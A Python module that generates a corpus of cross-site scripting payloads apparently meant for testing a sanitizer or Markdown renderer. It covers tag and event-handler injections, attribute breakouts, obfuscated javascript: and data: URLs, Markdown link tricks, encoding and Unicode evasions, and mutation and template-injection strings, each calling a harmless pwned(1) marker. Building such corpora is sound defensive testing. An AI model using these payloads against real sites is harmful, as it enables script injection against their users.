"""What has been tried to make a page run somebody else's script, by families; each would call ``pwned(1)`` where it works."""

from __future__ import annotations

import base64
import itertools
from urllib.parse import quote

GO = "pwned(1)"
_DATA = base64.b64encode(f"<script>parent.{GO}</script>".encode()).decode()

# What closes the place in which a text may stand.
OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", '" x="')
ELEMENTS = (
    f"<script>{GO}</script>", f"<ScRiPt >{GO}</sCrIpT\t>", f"<script\n>{GO}</script\n>", f"<script/x>{GO}</script>",
    f"<<script>{GO}//<</script>", f"<script src='data:,{GO}'></script>", f"<svg><script>{GO}</script></svg>",
    f"<svg onload={GO}>", f"<svg/onload={GO}>", f"<svg><animate onbegin={GO} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={GO}></mtext></math>", f"<img src=x onerror={GO}>", f"<img src=x onerror='{GO}'//>",
    f"<img/src=x\tonerror\n=\n{GO}>", f"<image src=x onerror={GO}>", f"<body onload={GO}>", f"<input autofocus onfocus={GO}>",
    f"<details open ontoggle={GO}>", f"<video><source onerror={GO}></video>", f"<audio src=x onerror={GO}>",
    f"<marquee onstart={GO}>x</marquee>", f'<iframe srcdoc="<script>parent.{GO}</script>"></iframe>',
    f"<iframe src='javascript:parent.{GO}'></iframe>", f"<object data='data:text/html;base64,{_DATA}'></object>",
    f"<embed src='javascript:{GO}'>", f"<a href='javascript:{GO}' autofocus>x</a>", f"<x onclick={GO} tabindex=1>x</x>",
    f"<form action='javascript:{GO}'><button>x</button></form>", "<base href='javascript:/a/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{GO}'>",
)  # fmt: skip
IN_ATTRIBUTES = (
    f'" onmouseover="{GO}', f"' onmouseover='{GO}", f'" autofocus onfocus="{GO}" x="', f"' autofocus onfocus='{GO}' x='",
    f'" onerror="{GO}" src="x', f"x onload={GO}", f'"/onload={GO}//', f'" style="x:expression({GO})',
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript&#58;", "jav&#x09;ascript:", "java&NewLine;script:", "javascript%3A", "javascript://x%0a",
    "vbscript:", "livescript:", "feed:javascript:", "view-source:javascript:", "\u200bjavascript:", "ｊavascript:",
)  # fmt: skip
ADDRESSES = (
    *(scheme + quote(GO) for scheme in SCHEMES), f"data:text/html,<script>parent.{GO}</script>",
    f"data:text/html;base64,{_DATA}", f"DATA:image/svg+xml,<svg onload={GO}>",
)  # fmt: skip
LINKS = ("[x]({})", "[x](<{}>)", "<{}>", "[x][1]\n\n[1]: {}", "![x]({})")
MARKDOWN = (
    f'[x](https://x.example "\\" onmouseover={GO} x=\\"")', f"[x](https://x.example 'a\" onmouseover=\"{GO}')",
    f'[x](https://x.example"onmouseover="{GO})', f'<https://x.example/"onmouseover="{GO}>', f'![x" onerror="{GO}](x)',
    f"[<img src=x onerror={GO}>](https://x.example)", f"# <img src=x onerror={GO}>", f'# x" onmouseover="{GO}',
    f"> <script>{GO}</script>", f"* <svg onload={GO}>", f"`<script>{GO}</script>`", f"```\n</code><script>{GO}</script>\n```",
    f"    <script>{GO}</script>", f"| a |\n|---|\n| <img src=x onerror={GO}> |", f'|a|\n|:-" onmouseover={GO} x="|\n|b|',
    f"[a](javascript:{GO} (b))", f"[x](/\\\\x.example/{GO})", "[x](//x.example/x.js)", f"<!--\n--><script>{GO}</script>",
    f"[x]: javascript:{GO}\n[x]", f"[[x](javascript:{GO})](javascript:{GO})", f'<mailto:x@x.example"onmouseover={GO}>',
)  # fmt: skip
ENTITIES = (
    f"&lt;script&gt;{GO}&lt;/script&gt;", f"&#60;script&#62;{GO}&#60;/script&#62;", f"&#x3c;img src=x onerror={GO}&#x3e;",
    f"&amp;lt;script&amp;gt;{GO}", f"&quot;&gt;&lt;svg onload={GO}&gt;", f"&LT;script&GT;{GO}&LT;/script&GT;", f"%3Cscript%3E{GO}%3C/script%3E",
    f"\\u003cscript\\u003e{GO}", f"\\x3cscript\\x3e{GO}",
)  # fmt: skip
UNICODE = (
    f"＜script＞{GO}＜/script＞", f"<\u017fcript>{GO}</\u017fcript>", f"<scr\u0131pt>{GO}</scr\u0131pt>", f"<img src=x onerror\u2028={GO}>",
    f"\ufeff<script>{GO}</script>", f"\u202e<script>{GO}</script>", f"<scr\u00adipt>{GO}</scr\u00adipt>", f"<script\u00a0>{GO}</script>",
    f"\u3008script\u3009{GO}", "<img src=x onerror=\uff50wned(1)>", f"<svg\x0conload={GO}>",
)  # fmt: skip
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={GO}>">', f'<svg></p><style><a id="</style><img src=x onerror={GO}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={GO}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={GO}>", f"<style><!--</style><script>{GO}//--></script>",
    f'<xmp><p title="</xmp><svg/onload={GO}>">', f"<template><script>{GO}</script></template>", f"<select><style></select><svg onload={GO}>",
    f"{{{{constructor.constructor('{GO}')()}}}}", f"${{{GO}}}", f"{{% debug %}}<script>{GO}</script>", f"{{{{ 7|add:7 }}}}<svg onload={GO}>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys([
    *(out + element for out, element in itertools.product(OUT, ELEMENTS)), *IN_ATTRIBUTES,
    *(link.format(address) for link, address in itertools.product(LINKS, ADDRESSES)), *ADDRESSES,
    *MARKDOWN, *ENTITIES, *UNICODE, *MUTATIONS,
]))  # fmt: skip
